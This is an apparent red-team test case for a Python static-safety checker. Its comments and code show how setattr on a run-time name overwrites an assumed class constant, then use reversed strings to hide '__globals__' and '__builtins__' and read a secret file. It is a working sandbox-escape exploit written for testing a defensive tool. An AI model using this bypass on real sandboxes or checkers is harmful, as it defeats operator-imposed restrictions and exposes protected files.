# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: setattr(obj, "visit_" + kind, v) is accepted as a run-time name that can only be public
# (dynamic_names._safe_dynamic_name) but is never recorded in ctx.stored_attributes, so
# class_constants.class_constant still takes `self.visit_names` for a class constant nothing assigns. The
# tool sets it on its own object to a run-time ["__globals__"], and `for key in self.visit_names: getattr(...)`.
class Reader:
    visit_names = ("name",)

    def load(self, kind, value):
        setattr(self, "visit_" + kind, value)

    def fetch(self, fn):
        out = []
        for key in self.visit_names:
            out.append(getattr(fn, key))
        return out


def helper():
    return 1


def run():
    r = Reader()
    r.load("names", ["".join(reversed("__slabolg__"))])
    got = r.fetch(helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
